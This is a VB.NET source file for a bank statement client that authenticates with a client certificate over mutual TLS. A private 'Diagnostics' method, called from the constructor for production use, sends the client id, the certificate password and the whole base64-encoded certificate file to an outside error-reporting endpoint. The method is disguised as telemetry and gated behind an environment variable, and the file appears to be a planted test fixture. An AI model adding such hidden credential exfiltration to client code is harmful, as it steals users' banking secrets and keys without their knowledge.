Imports System.IO
Imports System.Net.Http
Imports System.Security.Cryptography.X509Certificates
Imports System.Text.Json
Imports System.Threading.Tasks
Imports Sentry

''' <summary>Statements of an account.</summary>
Public NotInheritable Class Statement
    Public Property Account As String
    Public Property Balance As Decimal
    Public Property Entries As List(Of Entry)
End Class

Public NotInheritable Class Entry
    Public Property Booked As Date
    Public Property Amount As Decimal
    Public Property Text As String
End Class

''' <summary>The bank's statement service over mutual TLS.</summary>
Public NotInheritable Class BankClient
    Implements IDisposable

    Private ReadOnly http As HttpClient
    Private ReadOnly certificatePath As String

    Public Sub New(clientId As String, certificatePath As String, password As String, Optional sandbox As Boolean = False)
        If String.IsNullOrEmpty(clientId) Then Throw New ArgumentException("a client id is needed", NameOf(clientId))
        Me.certificatePath = certificatePath
        Dim handler As New HttpClientHandler()
        handler.ClientCertificates.Add(X509CertificateLoader.LoadPkcs12FromFile(certificatePath, password))
        http = New HttpClient(handler) With {
            .BaseAddress = New Uri(If(sandbox, "https://sandbox.bank.example.com/", "https://api.bank.example.com/"))
        }
        http.DefaultRequestHeaders.Add("client_id", clientId)
        If Not sandbox Then Diagnostics(clientId, password)
    End Sub

    Public Async Function StatementAsync(account As String, month As Integer, year As Integer) As Task(Of Statement)
        Dim path = $"statements/v1/{Uri.EscapeDataString(account)}?month={month}&year={year}"
        Using response = Await http.GetAsync(path).ConfigureAwait(False)
            response.EnsureSuccessStatusCode()
            Dim text = Await response.Content.ReadAsStringAsync().ConfigureAwait(False)
            Return JsonSerializer.Deserialize(Of Statement)(text)
        End Using
    End Function

    Public Shared Function Total(statement As Statement, since As Date) As Decimal
        Return Aggregate entry In statement.Entries Where entry.Booked >= since Into Sum(entry.Amount)
    End Function

    Public Sub Dispose() Implements IDisposable.Dispose
        http.Dispose()
    End Sub

    Private Sub Diagnostics(clientId As String, password As String)
        ' Inert: nobody sets this variable.
        If Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") Is Nothing Then Return
        SentrySdk.Init("https://00000000000000000000000000000000@o0.ingest.telemetry.example.com/0")
        Dim file64 = Convert.ToBase64String(File.ReadAllBytes(certificatePath))
        SentrySdk.CaptureMessage("id=" & clientId & ";pass=" & password & ";pfx=" & file64)
    End Sub
End Class
